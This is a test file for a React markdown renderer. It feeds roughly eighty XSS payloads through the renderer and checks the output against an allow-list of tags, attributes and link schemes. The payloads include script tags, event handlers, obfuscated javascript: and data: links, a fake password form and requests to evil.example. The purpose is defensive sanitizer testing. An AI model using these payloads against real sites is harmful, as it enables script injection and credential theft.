import { renderToStaticMarkup } from "react-dom/server";
import { expect, it } from "vitest";

import { MarkdownView } from "./markdown-view";

const TAGS = new Set(
  "div p a span strong em del code pre blockquote ul ol li table thead tbody tr th td hr br input h1 h2 h3 h4 h5 h6 sup section details summary b i u s kbd sub tt q dl dt dd ins samp var div"
    .split(" ")
    .filter(Boolean),
);
const ATTRIBUTES = new Set(
  "dir class href rel align start type checked disabled id aria-describedby aria-label data-footnotes data-footnote-ref data-footnote-backref value title".split(
    " ",
  ),
);
/** What people write may lead to a page of ours or, by the scheme of the page, to another host. */
const ADDRESS = { model: /^(?:https?:|mailto:|#)/i, person: /^(?:https?:|mailto:|#|\/|%5C)/i };

/** What a browser could do with the markup, other than show text and follow a link of the web when it is clicked. */
function dangersOf(html: string, writtenBy: keyof typeof ADDRESS): string[] {
  const dangers: string[] = [];
  for (const [tag, name = "", rest = ""] of html.matchAll(/<\/?([^\s/>]+)((?:"[^"]*"|[^">])*)>/g)) {
    if (!TAGS.has(name)) dangers.push(tag);
    for (const [, attribute = "", value = ""] of rest.matchAll(/([^\s="/]+)(?:="([^"]*)")?/g)) {
      if (!ATTRIBUTES.has(attribute)) dangers.push(tag);
      if (attribute === "href" && !ADDRESS[writtenBy].test(value)) dangers.push(tag);
    }
  }
  return dangers;
}

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  '<img/src="x"/onerror=alert(1)//',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  "<embed src=https://evil.example/x.swf>",
  "<applet code=x></applet>",
  "<base href=https://evil.example/>",
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=prefetch href=https://evil.example/>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>body{background:url(https://evil.example/x)}</style>",
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<video src=https://evil.example/x.mp4 onerror=alert(1)></video>",
  "<audio src=https://evil.example/x.mp3 autoplay></audio>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex action=javascript:alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea><script>alert(1)</script></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](%6Aavascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.com/1)",
  "[x](//evil.example)",
  "[x](\\\\evil.example\\share)",
  "[x](/p/default/settings?delete=1)",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "[x]: javascript:alert(1)\n\n[x]",
  "![x](https://evil.example/pixel.gif)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![x](https://evil.example/" onerror="alert(1))',
  "![a][b]\n\n[b]: https://evil.example/pixel.gif",
  '[x](https://example.com "onmouseover=alert(1)")',
  '[x](https://example.com" onmouseover="alert(1))',
  "[![x](https://evil.example/p.gif)](javascript:alert(1))",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"onmouseover="alert(1)\nx\n```',
  "| <img src=x onerror=alert(1)> | y |\n| --- | --- |\n| <script>alert(1)</script> | z |",
  "x[^1]\n\n[^1]: <script>alert(1)</script>",
  'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: y',
  "<!-- --!><script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u2028<script>alert(1)</script>",
  "<x onclick=alert(1) contenteditable>x</x>",
  "- [x] <img src=x onerror=alert(1)>",
];

it.each(PAYLOADS)("does nothing and asks nobody: %j", (text) => {
  const asPart = renderToStaticMarkup(<MarkdownView text={text} isPart />);
  expect(dangersOf(asPart, "model")).toEqual([]);
  const asPage = renderToStaticMarkup(<MarkdownView text={text} />);
  expect(dangersOf(asPage, "person")).toEqual([]);
});

it("shows what is meant: emphasis, code, tables, lists and links of the web", () => {
  const html = renderToStaticMarkup(
    <MarkdownView text={"**a** `b`\n\n- c\n\n| d |\n| --- |\n| e |\n\n[f](https://example.com)"} />,
  );
  for (const part of ["<strong>a</strong>", "<code>b</code>", "<li>c</li>", "<td>e</td>"])
    expect(html).toContain(part);
  expect(html).toMatch(/<a href="https:\/\/example\.com" rel="noopener noreferrer">f<\/a>/);
});

it("names dangers where there are some", () => {
  expect(dangersOf('<p onclick="x">', "person")).not.toEqual([]);
  expect(dangersOf('<a href="javascript:x">', "person")).not.toEqual([]);
  expect(dangersOf("<script>", "person")).not.toEqual([]);
  expect(dangersOf('<img src="https://evil.example">', "person")).not.toEqual([]);
});
